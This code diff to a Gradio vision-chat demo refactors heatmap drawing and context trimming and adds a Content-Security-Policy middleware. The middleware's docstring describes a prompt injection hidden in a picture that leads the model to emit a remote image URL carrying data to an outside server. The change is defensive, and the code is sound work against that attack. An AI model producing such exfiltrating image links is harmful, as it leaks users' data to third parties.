@@ -24,7 +24,7 @@ from glimpse.assets import ASSETS
 from glimpse.common import UserError
 from glimpse.pipeline.prompt import ContextOverflow
 from glimpse.pruning import PRUNING_NAMES, parse_params
-from glimpse.vision.media import MediaError, detect_kind, load_image, probe_video, read_frames
+from glimpse.vision.media import MediaError, detect_kind, load_image, probe_video
 
 POLICIES = ["auto", *PRUNING_NAMES, "none"]  # the dropdown: the default first, no pruning last
 
@@ -163,13 +163,15 @@ def saved_image(image: Image.Image | None) -> str | None:
     return str(path)
 
 
-def keep_map_image(messages: list[dict], keep_map: dict, cell: int = 24) -> Image.Image | None:
-    """The depth each visual token reached, as a heatmap laid over the first image of the prompt
-    (for a video: one tile per frame group of the grid). None when the prompt has no media grid."""
-    media = keep_map.get("media") or []
-    if not media or media[0].get("grid") is None:
+def keep_map_image(media: list, keep_map: dict, cell: int = 24) -> Image.Image | None:
+    """The depth each visual token reached, as a heatmap laid over the prompt's last image or video: the one the
+    latest question came with, or the latest before it (for a video: one tile per frame group of the grid, over
+    the frames the model was given). ``media`` is the prompt's (``Prompt.media``); without it the heatmap is drawn
+    alone. None when the prompt has no media grid."""
+    spans = keep_map.get("media") or []
+    if not spans or spans[-1].get("grid") is None:
         return None
-    span = media[0]
+    span = spans[-1]
     t, h, w = span["grid"]
     depth = np.array(keep_map["depth"][span["start"]:span["start"] + span["count"]], dtype=np.float32)
     if depth.size != t * h * w:
@@ -179,10 +181,10 @@ def keep_map_image(messages: list[dict], keep_map: dict, cell: int = 24) -> Imag
     heat = np.stack([1 - strip, strip, np.zeros_like(strip)], axis=-1)  # red: dropped early, green: kept
     overlay = Image.fromarray((heat * 255).astype("uint8")).resize((strip.shape[1] * cell, strip.shape[0] * cell),
                                                                    Image.NEAREST)
-    picture = _frame_strip(_first_media(messages, "video"), t, h * cell, w * cell) if span["kind"] == "video" \
-        else _first_image(messages)
-    if picture is None:
+    frames = media[-1].frames if len(media) == len(spans) else []
+    if not frames:
         return overlay
+    picture = _frame_strip(frames, t, h * cell, w * cell) if span["kind"] == "video" else frames[0]
     if span["kind"] == "image":
         # Drawn at the picture's own proportions: the model may have squeezed it into its grid (the embedded
         # model's 16x16, LLaVA's 24x24), but a tall photo should still look tall.
@@ -191,34 +193,11 @@ def keep_map_image(messages: list[dict], keep_map: dict, cell: int = 24) -> Imag
     return Image.blend(picture.convert("RGB").resize(overlay.size), overlay, 0.45)
 
 
-def _first_media(messages, kind):
-    for message in messages:
-        for part in message["content"] if isinstance(message["content"], list) else []:
-            if part.get("type") == kind:
-                return part[kind]
-    return None
-
-
-def _first_image(messages):
-    source = _first_media(messages, "image")
-    try:
-        return load_image(source) if source is not None else None
-    except MediaError:
-        return None
-
-
-def _frame_strip(path, groups: int, height: int, width: int) -> Image.Image | None:
-    """One frame per temporal group of the video's token grid, evenly spaced over the clip, side by
-    side: the background the per-group heatmap tiles are laid over."""
-    if path is None:
-        return None
-    try:
-        total = probe_video(path).num_frames
-        indices = [min(total - 1, int((g + 0.5) * total / groups)) for g in range(groups)]
-        frames = read_frames(path, indices)
-    except (MediaError, OSError, ValueError):
-        return None
-    tiles = [Image.fromarray(frame).resize((width, height)) for frame in frames]
+def _frame_strip(frames: list[Image.Image], groups: int, height: int, width: int) -> Image.Image:
+    """One of the sampled frames per temporal group of the video's token grid, side by side: the background the
+    per-group heatmap tiles are laid over (the frames the model saw, not the file decoded again)."""
+    tiles = [frames[min(len(frames) - 1, g * len(frames) // groups)].convert("RGB").resize((width, height))
+             for g in range(groups)]
     strip = Image.new("RGB", (width * groups, height))
     for g, tile in enumerate(tiles):
         strip.paste(tile, (g * width, 0))
@@ -230,7 +209,37 @@ EMBEDDED_NOTE = ("**About this model:** the embedded demo model (135M parameters
                  "short clips in which one moves, appears or changes colour; the examples below are such scenes. On "
                  "photos it answers in the same words (a colour, a shape, a count), rarely rightly. Start the server "
                  "with `--model` and a Qwen2-VL or LLaVA checkpoint for real pictures.")
-EXAMPLES = [("sample.png", "What colour is the biggest shape?"), ("sample.mp4", "What moves in this clip?")]
+# README's questions, which the embedded model answers right at every speed ("Red.", "Right."). An outside pass
+# clicked the earlier ones first: "the biggest shape" (a circle of 8,005 pixels beside a square of 6,400) got
+# "Blue.", and "What moves?" got a direction.
+EXAMPLES = [("sample.png", "What colour is the circle?"), ("sample.mp4", "Which way does the blue square move?")]
+
+
+class NoRemoteMedia:
+    """ASGI middleware: the chat's pages load images and media from this server only (a Content-Security-Policy).
+
+    The chat renders Markdown and the HTML Gradio's sanitiser lets through: an answer holding
+    ``<img src="https://elsewhere/?q=...">`` or ``![](https://elsewhere/...)`` (a prompt injection in a picture
+    can ask a model for one) would have the browser send what it likes to another server, and a style's
+    ``url(...)`` too. ``img-src`` covers all three; the chat's own pictures, uploads, previews and keep maps come
+    from this server, ``data:`` or ``blob:`` URLs."""
+
+    POLICY = b"img-src 'self' data: blob:; media-src 'self' data: blob:"
+
+    def __init__(self, app):
+        self.app = app
+
+    async def __call__(self, scope, receive, send):
+        if scope["type"] != "http":
+            return await self.app(scope, receive, send)
+
+        async def with_policy(message):
+            if message["type"] == "http.response.start":
+                message = {**message, "headers": [*message.get("headers", []),
+                                                  (b"content-security-policy", self.POLICY)]}
+            await send(message)
+
+        await self.app(scope, receive, with_policy)
 
 
 def build_ui(engine, model_name: str, max_new_tokens: int = 256, allowed_root: str | None = None, scheduler=None):
@@ -295,16 +304,11 @@ def build_ui(engine, model_name: str, max_new_tokens: int = 256, allowed_root: s
             overridden = parse_overrides(overrides)
             options = dict(policy=engine.make_policy(policy, speed, overridden),
                            max_new_tokens=_token_limit(max_tokens, max_new_tokens), caches=not compare)
-            earlier, left_out = _usable(history, unusable), 0
-            while True:  # a conversation longer than the context goes on without its oldest turns
-                messages = history_to_messages(earlier + turn, allowed)
-                try:
-                    ticket = scheduler.submit(messages, **options)
-                    break
-                except ContextOverflow:
-                    if not earlier:
-                        raise  # this turn alone does not fit
-                    earlier, left_out = _without_oldest_turn(earlier), left_out + 1
+            scheduler.check_room()  # a full queue is refused before the work of building the prompt
+            prompt, left_out = _fitting_prompt(
+                _usable(history, unusable), turn,
+                lambda conversation: scheduler.prepare(history_to_messages(conversation, allowed), not compare))
+            ticket = scheduler.submit(prompt, **options)
             with tabs_lock:
                 tabs.setdefault(session, set()).add(ticket)
         except QueueFull as full:
@@ -329,7 +333,7 @@ def build_ui(engine, model_name: str, max_new_tokens: int = 256, allowed_root: s
             # With no pruning (policy none, or speed 0 as the slider sets it) the two runs are one configuration.
             if compare and policy != "none" and (speed > 0 or overridden):
                 yield _shown(answer), "*running the unpruned answer to compare ...*", gr.skip()
-                baseline = scheduler.generate(messages, policy="none", max_new_tokens=options["max_new_tokens"],
+                baseline = scheduler.generate(prompt, policy="none", max_new_tokens=options["max_new_tokens"],
                                               caches=False)
         except Exception as error:  # after some of the answer: what was said stays, the error under it as a note
             yield (_shown(answer) + _note(f"the answer broke off: {_error_text(error).removeprefix(ERROR_NOTE)}") if answer
@@ -350,7 +354,7 @@ def build_ui(engine, model_name: str, max_new_tokens: int = 256, allowed_root: s
         if left_out:
             answer += _note(f"the conversation no longer fits the model's context: its {left_out} oldest "
                             f"turn{'s were' if left_out > 1 else ' was'} left out of this answer")
-        keep_map = saved_image(keep_map_image(messages, result.metrics["keep_map"]))
+        keep_map = saved_image(keep_map_image(prompt.media, result.metrics["keep_map"]))
         yield answer, metrics_markdown(result, baseline), keep_map
 
     def tab_closed(request):
@@ -645,15 +649,43 @@ def _without_notes_in(content):
     return content
 
 
-def _without_oldest_turn(history: list[dict]) -> list[dict]:
-    """``history`` from its second question on: the first question (Gradio gives its files and its text as
-    separate messages) and the answers to it left out."""
-    start = 0
-    while start < len(history) and history[start].get("role") == "user":
-        start += 1
-    while start < len(history) and history[start].get("role") != "user":
-        start += 1
-    return history[start:]
+def _turn_starts(history: list[dict]) -> list[int]:
+    """Where each question turn of ``history`` starts (a question is its user messages — Gradio gives its files
+    and its text as separate messages — and the answers after them), then ``len(history)``: leaving out the
+    ``k`` oldest turns keeps ``history[starts[k]:]``."""
+    starts, at = [], 0
+    while at < len(history):
+        starts.append(at)
+        while at < len(history) and history[at].get("role") == "user":
+            at += 1
+        while at < len(history) and history[at].get("role") != "user":
+            at += 1
+    return starts + [len(history)]
+
+
+def _fitting_prompt(earlier: list[dict], turn: list[dict], prepare) -> tuple[object, int]:
+    """The prompt of ``turn`` after the most recent ``earlier`` turns that fit the model's context, and how many
+    of the oldest turns were left out; ``ContextOverflow`` when ``turn`` alone does not fit.
+
+    Searched by halves over how many to leave out: each try builds the whole prompt, and leaving out one turn at
+    a time took 166 s of a core on a history of 1,000 turns (an outside pass), holding every other request's
+    prompt building behind it."""
+    try:
+        return prepare(earlier + turn), 0  # the common case: it all fits
+    except ContextOverflow:
+        if not earlier:
+            raise
+    starts = _turn_starts(earlier)
+    overflows, fits, prompt = 0, len(starts) - 1, None  # leaving out `overflows` turns does not fit
+    while fits - overflows > 1:
+        middle = (overflows + fits) // 2
+        try:
+            prompt, fits = prepare(earlier[starts[middle]:] + turn), middle
+        except ContextOverflow:
+            overflows = middle
+    if prompt is None:  # only leaving out every earlier turn is left to try
+        prompt = prepare(turn)
+    return prompt, fits
 
 
 def _rounded(value):
